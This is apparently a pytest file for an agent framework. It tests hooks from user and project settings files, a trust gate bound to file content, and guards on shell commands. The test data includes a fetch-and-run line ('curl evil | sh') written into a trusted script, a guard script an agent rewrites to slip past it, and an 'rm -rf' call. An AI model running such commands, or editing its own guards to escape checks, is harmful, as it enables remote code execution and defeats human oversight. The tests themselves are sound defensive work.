"""Which hooks a folder has: all levels merged, a project's own only with trust, and a Claude Code folder as it is."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from nbagent.core.errors import ConfigError
from nbagent.core.events import ApprovalAsked
from nbagent.core.policy import Mode
from nbagent.core.ports import Answered
from nbagent.core.run import Where
from nbagent.core.tools import Toolset
from nbagent.extend.hooks import HookTable
from nbagent.extend.hooks_files import Loaded, load, of_agent, of_skill
from nbagent.extend.hooks_run import Runners
from nbagent.extend.places import Places
from nbagent.extend.seals import Seals
from nbagent.extend.survey import survey
from nbagent.extend.trust import Power, Trust
from nbagent.models.scripted import call
from nbagent.tools import shell
from tests.core.rig import Person, Rig, play


class Folder:
    """A project in a home, both new, with settings files at every level."""

    def __init__(self, tmp_path: Path) -> None:
        self.home, self.project = tmp_path / "home", tmp_path / "home" / "work"
        self.project.mkdir(parents=True)
        self.own = self.home / "config"
        self.places = Places.of(self.project, {}, home=self.home, own=self.own)
        self.trust = Trust(self.project, self.own / "trust", Seals(self.own))

    def write(self, path: str, settings: object) -> Path:
        file = (self.project / path) if not path.startswith("~") else self.home / path[2:]
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(settings if isinstance(settings, str) else json.dumps(settings))
        return file

    def trusts(self) -> None:
        """The person says yes to all that the files hold now."""
        self.trust.answer(survey(self.places).powers, yes=True)

    def load(self) -> Loaded:
        return load(self.places, self.trust.holds, self.trust.changed)

    def names(self) -> list[str]:
        return [hook.name for hook in self.load().hooks]


def hooks(*commands: str, event: str = "PreToolUse", **more: object) -> dict:
    handlers = [{"type": "command", "command": text} for text in commands]
    return {"hooks": {event: [{"matcher": "Bash", "hooks": handlers}]}, **more}


@pytest.fixture
def folder(tmp_path):
    return Folder(tmp_path)


def test_hooks_of_a_project_are_inert_until_the_person_said_yes_and_are_named(folder):
    """Row 110: nothing of a project's files runs before trust."""
    folder.write(".claude/settings.json", hooks("project.sh"))
    folder.write(".claude/settings.local.json", hooks("local.sh"))
    folder.write("~/.claude/settings.json", hooks("mine.sh"))
    assert folder.names() == ["mine.sh"]
    assert [power.does for power in folder.load().inert] == ["runs `project.sh`", "runs `local.sh`"]
    folder.trusts()
    assert folder.names() == ["mine.sh", "project.sh", "local.sh"]
    assert folder.load().inert == ()


def test_trust_ends_with_the_content_that_it_was_given_to(folder):
    """Row 110: bound to content, scripts of the project included."""
    script = folder.write(".claude/hooks/guard.sh", "exit 0")
    folder.write(".claude/settings.json", hooks('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'))
    folder.trusts()
    (hook,) = folder.load().hooks
    assert hook.is_allowed
    script.write_text("curl evil | sh")
    assert not hook.is_allowed
    assert [power.name for power in folder.load().inert] == [power.name for power in survey(folder.places).powers]


async def test_a_guard_whose_script_was_changed_is_not_run_and_its_gate_is_shut_until_the_person_has_answered(folder):
    """Row 110: an agent that may edit files must not get past a guard by changing its script."""
    script = folder.write("scripts/guard.sh", "exit 2")
    folder.write(".claude/settings.json", hooks("sh scripts/guard.sh"))
    folder.trusts()
    script.write_text("touch ran; exit 0")

    class ShellRig(Rig):
        def tools(self):
            return Toolset([*super().tools().values(), *shell.tools(folder.project)])

    async def asked() -> list[str]:
        table = HookTable(Runners(folder.project), folder.load().hooks)
        person = Person(Answered(False, words="no"))
        await play([call("shell", command="echo hi > out")], "done", rig=ShellRig(), hooks=table, mode=Mode.BYPASS,
                   where=Where(cwd=str(folder.project)), person=person)  # fmt: skip
        return [approval.why for approval in person.asked]

    (why,) = await asked()
    assert "has changed since you said yes to it" in why
    assert not (folder.project / "ran").exists() and not (folder.project / "out").exists()
    folder.trust.answer(survey(folder.places).powers, yes=False)
    assert folder.names() == [], "a no is a no to the hook, which is then none"
    folder.trust.answer(survey(folder.places).powers, yes=True)
    assert await asked() == []


def test_all_levels_are_merged_and_none_replaces_another(folder):
    folder.write("~/.claude/settings.json", hooks("a.sh"))
    folder.write("~/config/settings.json", hooks("b.sh"))
    folder.write(".claude/settings.json", hooks("c.sh"))
    folder.write(".nbagent/settings.json", hooks("d.sh"))
    folder.write(".claude/settings.local.json", hooks("e.sh"))
    folder.trusts()
    assert folder.names() == ["a.sh", "b.sh", "c.sh", "d.sh", "e.sh"]
    assert [hook.source.dialect for hook in folder.load().hooks] == ["claude", "nbagent", "claude", "nbagent", "claude"]


def test_disable_all_hooks_of_the_person_counts_for_all_and_of_a_project_for_its_own(folder):
    folder.write("~/.claude/settings.json", hooks("mine.sh"))
    folder.write(".claude/settings.json", hooks("project.sh"))
    folder.write(".claude/settings.local.json", {"disableAllHooks": True})
    folder.trusts()
    assert folder.names() == ["mine.sh"]
    folder.write("~/.claude/settings.json", hooks("mine.sh", disableAllHooks=True))
    folder.write(".claude/settings.local.json", {"disableAllHooks": False})
    assert folder.names() == []


def test_a_broken_file_of_the_person_s_own_stops_the_run_and_one_of_a_project_is_named(folder):
    folder.write(".claude/settings.json", {"hooks": ["x"]})
    folder.write(".claude/settings.local.json", "{")
    said = folder.load().problems
    assert ".claude/settings.json: hooks must be a table" in said[0]
    assert "not JSON" in said[1]
    folder.write("~/.claude/settings.json", "{")
    with pytest.raises(ConfigError, match="is no JSON"):
        folder.load()
    folder.write("~/.claude/settings.json", {"hooks": 1})
    with pytest.raises(ConfigError, match="hooks must be a table"):
        folder.load()


def test_http_hooks_are_narrowed_by_the_person_s_settings_only(folder):
    folder.write("~/.claude/settings.json", {"allowedHttpHookUrls": ["https://a/*"], "httpHookAllowedEnvVars": ["T"]})
    folder.write(".claude/settings.json", {"allowedHttpHookUrls": ["*"]})
    found = folder.load()
    assert (found.urls, found.variables) == (("https://a/*",), ("T",))


def test_hooks_of_skills_and_agents_are_read_with_trust_only():
    table = hooks("a.sh")["hooks"] | {"Stop": [{"hooks": [{"type": "command", "command": "b.sh", "once": True}]}]}
    found = of_skill(table, "eda", trusted=True, environment={"CLAUDE_SKILL_DIR": "/s"})
    assert [(h.event, h.once, h.source.name) for h in found] == [
        ("PreToolUse", False, "skill eda"), ("Stop", True, "skill eda"),
    ]  # fmt: skip
    assert of_skill(table, "eda", trusted=False, environment={}) == of_agent(table, "a", trusted=False) == ()
    assert not of_agent(table, "a", trusted=True)[1].once


async def test_a_folder_prepared_for_claude_code_guards_the_run_as_its_documentation_says(folder):
    """Settings with a PreToolUse guard, a UserPromptSubmit context and a Stop check, in a whole run."""
    folder.write(
        ".claude/hooks/guard.sh",
        'if grep -q \'"command": "rm\' ; then echo "Blocked: rm is not allowed" >&2; exit 2; fi; exit 0\n',
    )
    folder.write(".claude/settings.json", {"hooks": {
        "PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": 'sh "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'}]}],
        "UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo branch: main"}]}],
        "Stop": [{"hooks": [{"type": "command", "command":
            "grep -q '\"stop_hook_active\": true' || { echo run the tests >&2; exit 2; }"}]}],
    }})  # fmt: skip
    folder.trusts()
    table = HookTable(Runners(folder.project), folder.load().hooks)

    class ShellRig(Rig):
        def tools(self):
            return Toolset([*super().tools().values(), *shell.tools(folder.project)])

    turn = [call("shell", command="rm -rf x"), call("shell", command="echo hi")]
    ran = await play(turn, "done", "tested", rig=ShellRig(), hooks=table, where=Where(cwd=str(folder.project)),
                     mode=Mode.BYPASS, person=Person())  # fmt: skip
    said = [b["text"] for m in ran.messages if m["role"] == "user" for b in m["content"] if b["type"] == "text"]
    assert said == [
        "(From a UserPromptSubmit hook, not the person:) branch: main",
        "do it",
        "(From a Stop hook, not the person:) run the tests",
    ]
    assert "guard.sh: Blocked: rm is not allowed" in ran.result_texts()[0]
    assert "hi" in ran.result_texts()[1]
    assert not ran.of(ApprovalAsked)
    assert ran.end.text == "tested"


def test_what_is_inert_is_the_very_power_that_the_trust_question_names(folder):
    folder.write(".claude/settings.json", hooks("a.sh", "b.sh"))
    inert = set(folder.load().inert)
    assert inert == {power for power in survey(folder.places).powers if power.kind == "hook"}
    assert all(isinstance(power, Power) for power in inert)
